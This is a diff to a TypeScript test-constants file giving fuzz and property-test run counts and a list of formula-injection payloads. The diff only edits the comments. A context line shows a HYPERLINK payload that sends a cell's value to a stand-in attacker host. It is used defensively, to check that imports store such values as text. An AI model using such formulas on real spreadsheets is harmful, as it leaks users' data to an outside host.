@@ -1,6 +1,6 @@
 /**
- * The number of generated cases per property and fuzz target. docs/RELIABILITY.md reports these
- * figures, and tests/docs/reliability-doc.test.ts keeps the two in step.
+ * The number of generated cases per property and fuzz target. docs/RELIABILITY.md shows these
+ * figures in tables written by `npm run docs:figures` (scripts/docs-figures.ts).
  */
 export const PROPERTY_RUNS = {
   "monotone-potential": 5000,
@@ -23,8 +23,8 @@ export const FUZZ_RUNS = {
 export const LINEAR_SIZES = [1, 10, 100, 10_000] as const;
 
 /**
- * Issue 5, item 3: real formula-injection payloads. Every one is written through a colleague's
- * JSON and through the report (first import and an updating re-import) and must land as text.
+ * Real formula-injection payloads. Every one is written through a colleague's JSON and through
+ * the report (first import and an updating re-import) and must land as text.
  */
 export const INJECTION_PAYLOADS = [
   '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
@@ -44,7 +44,7 @@ export const INJECTION_PAYLOADS = [
 ] as const;
 
 /**
- * Issue 5, items 3–6: the attack and fault cases the tests run. docs/RELIABILITY.md reports them,
+ * The attack and fault cases the tests run. docs/RELIABILITY.md shows them (npm run docs:figures),
  * and the tests that own each list check its length against these figures.
  */
 export const SECURITY_CASES = {
